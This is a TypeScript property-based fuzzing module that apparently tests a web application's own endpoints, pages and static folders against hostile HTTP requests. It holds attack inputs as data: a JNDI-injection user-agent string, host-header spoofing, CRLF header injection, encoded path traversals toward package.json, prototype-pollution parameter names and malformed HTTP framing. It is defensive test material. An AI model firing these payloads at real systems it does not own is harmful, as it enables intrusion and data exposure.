import * as fc from 'fast-check';
import { routePatterns } from '../../../domain/addresses/links.ts';
import type { Operation } from '../../../domain/operation/operation.ts';
import { endpointPath, hasCall, type Endpoint } from '../../../domain/wire/endpoint.ts';
import { testGroup } from '../../support/wire/test-group.ts';
import { longestValue } from '../../../domain/wire/texts.ts';
import { bodyFor, rightValues, type Schema } from './bodies.ts';
import { hostileText, hostileTexts, hostileValue, planted } from './values.ts';
import { specifiedBrands } from '../../../domain/vehicles/specified-brands.ts';

export interface HostileRequest {
  /** The target: the name of an endpoint or the pattern of a page. */
  about: string;
  /** Undefined for a target without an endpoint of the contract. */
  endpoint?: Endpoint;
  method: string;
  path: string;
  headers: [string, string][];
  body?: string;
  /** Whether the text before the body is sent unchanged, although HTTP does not allow it. */
  isRaw: boolean;
}

export interface NamedEndpoint {
  name: string;
  endpoint: Endpoint;
}

/** Requests that attack every endpoint and every page, and other addresses. */
export function hostileRequests(
  endpoints: readonly NamedEndpoint[],
  operation: Operation,
): fc.Arbitrary<HostileRequest> {
  const right = rightValues(operation);
  const calls = endpoints.map((endpoint) => callOf(endpoint, right));
  const pages = Object.values(routePatterns).map((pattern) => pageOf(pattern, right));
  return fc.oneof(
    { weight: 6, arbitrary: fc.oneof(...calls) },
    { weight: 3, arbitrary: fc.oneof(...pages) },
    { weight: 1, arbitrary: fc.oneof(...files.map(fileOf), stray) },
  );
}

/** `other` once in `times` + 1 values. */
const rarely = <T>(times: number, usual: fc.Arbitrary<T>, other: fc.Arbitrary<T>) =>
  fc.oneof({ weight: times, arbitrary: usual }, { weight: 1, arbitrary: other });

/** Percent-encoded as in a browser, or not at all. */
const inAddress = (text: fc.Arbitrary<string>): fc.Arbitrary<string> =>
  fc.tuple(text, fc.integer({ min: 0, max: 4 })).map(([value, how]) => {
    if (how === 0) return value.replaceAll(/[\s\p{Cc}?#]/gu, '');
    return value.isWellFormed() ? encodeURIComponent(value) : encodeURI(value.toWellFormed());
  });

const inText = (value: unknown): string =>
  encodeURIComponent(typeof value === 'string' ? value : (JSON.stringify(value) ?? '1'));

const headers: fc.Arbitrary<[string, string][]> = rarely(
  8,
  fc.constant<[string, string][]>([]),
  fc.constantFrom<[string, string][]>(
    [['accept-encoding', 'br;q=NaN, gzip;q=1e309, *;q=']],
    [['if-none-match', '"' + 'x'.repeat(3000)]],
    [['range', 'bytes=0-,-1,99999999999999999999-']],
    [['accept', 'application/json' + ';q='.repeat(1000)]],
    [['cookie', 'x'.repeat(12_000)]],
    [['cookie', 'x'.repeat(80_000)]],
    [['host', 'otro.example']],
    [['host', '']],
    [['x-forwarded-host', 'otro.example']],
    [['x-forwarded-proto', 'javascript']],
    [['content-type', 'multipart/form-data']],
    [['content-type', 'multipart/form-data; boundary=x']],
    [['content-type', 'application/x-www-form-urlencoded']],
    [['content-type', 'text/html']],
    [['content-type', 'application/json; charset=utf-7']],
    [['content-encoding', 'gzip']],
    [['sec-fetch-site', 'cross-site']],
    [['referer', planted.markup]],
    [['user-agent', '${jndi:ldap://otro.example}']],
    [['x-payments-signature', 't=NaN,v1=zz']],
    [['x-signature', 'ts=1,v1=zz']],
    [['expect', '100-continue']],
    Array.from({ length: 150 }, (_, index): [string, string] => [`x-${index}`, 'x'.repeat(40)]),
  ),
);

function queryOf(
  names: readonly string[],
  right: ReadonlyMap<string, unknown>,
): fc.Arbitrary<string> {
  const usual = (name: string) => fc.constant(inText(right.get(name)));
  const parts = names.map((name) =>
    fc.oneof(
      { weight: 3, arbitrary: usual(name).map((value) => `${name}=${value}`) },
      { weight: 2, arbitrary: inAddress(hostileText).map((value) => `${name}=${value}`) },
      { weight: 1, arbitrary: fc.constantFrom('', `${name}[]=1`, `${name}=1&${name}=2`) },
    ),
  );
  const strangeName = fc.constantFrom('fbclid', '__proto__', 'constructor', 'toString');
  const pair = fc.tuple(strangeName, inAddress(hostileText)).map((both) => both.join('='));
  const strange = rarely(6, fc.constant(''), pair);
  return fc.tuple(fc.tuple(...parts), strange).map(([values, more]) => {
    const query = [...values, more].filter(Boolean).join('&');
    return query ? `?${query}` : '';
  });
}

/**
 * Each parameter of each call with its valid value repeated, up to the maximum length. Three lengths of each, because
 * answers are cached by address.
 */
export function listRequests(
  endpoints: readonly NamedEndpoint[],
  operation: Operation,
): HostileRequest[][] {
  const right = rightValues(operation);
  return endpoints.flatMap(({ name: about, endpoint }) =>
    (endpoint.query ?? []).map((parameter) => {
      const item = `${inText(right.get(parameter))},`;
      const max = Math.floor(longestValue / item.length);
      return [max, max - 1, max - 2].map((times) => {
        const path = `${pathsOf(endpoint)[0]!}?${parameter}=${item.repeat(times)}`;
        return { about, endpoint, method: endpoint.method, path, headers: [], isRaw: false };
      });
    }),
  );
}

export function pathsOf(endpoint: Endpoint): string[] {
  const paths =
    typeof endpoint.path === 'string'
      ? [endpoint.path]
      : specifiedBrands
          .filter((brand) => hasCall(endpoint, brand))
          .map((brand) => endpointPath(endpoint, testGroup, brand));
  return paths.map((path) => path.replace(':group', testGroup));
}

function callOf(
  { name, endpoint }: NamedEndpoint,
  right: ReadonlyMap<string, unknown>,
): fc.Arbitrary<HostileRequest> {
  const base = fc.constantFrom(...pathsOf(endpoint));
  const segment = inAddress(hostileText).map((text) => `/${text}`);
  const item = rarely(5, fc.constant(''), segment);
  const verbs = fc.constantFrom('GET', 'POST', 'PUT', 'DELETE', 'HEAD', 'OPTIONS');
  const method = rarely(20, fc.constant<string>(endpoint.method), verbs);
  const body = endpoint.isMultipart
    ? multipart
    : endpoint.body
      ? bodyFor(endpoint.body as Schema, right)
      : fc.constant(undefined);
  return fc
    .tuple(method, base, item, queryOf(endpoint.query ?? [], right), headers, body)
    .map(([verb, path, id, query, more, text]) => ({
      about: name,
      endpoint,
      method: verb,
      path: `${path}${id}${query}`,
      headers: [...(text === undefined ? [] : [contentType(endpoint)]), ...more],
      isRaw: false,
      ...(text !== undefined && verb !== 'GET' && verb !== 'HEAD' && { body: text }),
    }));
}

function contentType({ isMultipart }: Endpoint): [string, string] {
  return [
    'content-type',
    isMultipart ? 'multipart/form-data; boundary=limite' : 'application/json',
  ];
}

/** Forms with a file: valid ones, and ones with hostile names, types, ends and fields. */
const multipart: fc.Arbitrary<string> = fc
  .tuple(
    fc.array(fc.tuple(hostileText, hostileText), { maxLength: 25 }),
    hostileText,
    hostileText,
    fc.constantFrom('\r\n--limite--\r\n', '', '\r\n--limite'),
  )
  .map(([fields, fileName, content, end]) => {
    const known = ['name', 'lastname', 'cellphone', 'email', 'message'];
    const parts = fields.map(
      ([name, value], index) =>
        `--limite\r\ncontent-disposition: form-data; name="${known[index] ? `data[${known[index]}]` : name}"\r\n\r\n${value}\r\n`,
    );
    const file = `--limite\r\ncontent-disposition: form-data; name="file"; filename="${fileName}"\r\n\r\n%PDF-1.4\n${content}`;
    return `${parts.join('')}${file}${end}`;
  });

const urlEncoded: [string, string] = ['content-type', 'application/x-www-form-urlencoded'];

function pageOf(
  pattern: string,
  right: ReadonlyMap<string, unknown>,
): fc.Arbitrary<HostileRequest> {
  const segments = pattern.split('/').map((segment): fc.Arbitrary<string> => {
    if (!segment.startsWith(':')) return fc.constant(segment);
    const usual = inText(right.get(segment.slice(1)));
    return fc.oneof(
      { weight: 3, arbitrary: fc.constant(usual) },
      { weight: 2, arbitrary: inAddress(hostileText) },
    );
  });
  const searched = ['q', 'marca', 'color', 'desde', 'hasta', 'pagina', 'promotion_code'];
  const form = fc
    .array(fc.tuple(fc.constantFrom('name', 'email', 'message', 'code', 'telephone'), hostileText))
    .map((fields) => new URLSearchParams(fields).toString());
  return fc
    .tuple(
      fc.tuple(...segments),
      fc.oneof(fc.constant(''), queryOf(searched, right)),
      headers,
      rarely<string | undefined>(5, fc.constant(undefined), form),
    )
    .map(([parts, query, more, body]) => ({
      about: pattern,
      method: body === undefined ? 'GET' : 'POST',
      path: `${parts.join('/') || '/'}${query}`,
      headers: body === undefined ? more : [urlEncoded, ...more],
      isRaw: false,
      ...(body !== undefined && { body }),
    }));
}

/** Folders of files, and addresses of the program that are neither calls nor pages. */
const files = [
  '/assets/',
  '/artwork/vehicles/',
  '/artwork/share/',
  '/photographs/',
  '/v1/',
  '/api/',
  '/webhooks/',
  '/metrics/',
  '/readyz/',
  '/healthz/',
  '/sitemap.xml/',
  '/.git/',
  '//',
];

const traversals = [
  '../package.json',
  '..%2f..%2fpackage.json',
  '%2e%2e/%2e%2e/package.json',
  '..%5c..%5cpackage.json',
  '....//....//package.json',
  '%c0%ae%c0%ae/package.json',
  'a%00.svg',
  '%',
  '%zz',
  '%ff',
];

function fileOf(folder: string): fc.Arbitrary<HostileRequest> {
  const name = fc.oneof(fc.constantFrom(...traversals), inAddress(hostileText));
  return fc.tuple(name, headers).map(([path, more]) => ({
    about: folder,
    method: 'GET',
    path: `${folder}${path}`,
    headers: more,
    isRaw: false,
  }));
}

/** Malformed HTTP: methods, targets and header lines of any text. */
const stray: fc.Arbitrary<HostileRequest> = fc
  .tuple(
    fc.constantFrom('GET', 'POST', 'PRI', 'TRACE', 'CONNECT', 'get', 'PROPFIND', 'G\0T'),
    fc.oneof(
      fc.constantFrom('*', 'http://otro.example/', '/a b', '/\u00e9', '', '//otro.example/'),
      fc.constantFrom(...hostileTexts).map((text) => `/${text}`),
    ),
    fc.oneof(
      fc.constantFrom<[string, string][]>(
        [['x', `1\r\n${planted.header}: 1`]],
        [['transfer-encoding', 'chunked']],
        [['content-length', '-1']],
        [['content-length', '1e9']],
        [['bad name', '1']],
        [['x', '\0']],
      ),
      headers,
    ),
    fc.oneof(fc.constant(undefined), hostileValue),
  )
  .map(([method, path, more, body]) => ({
    about: 'stray',
    method,
    path,
    headers: more,
    isRaw: true,
    ...(body !== undefined && { body }),
  }));
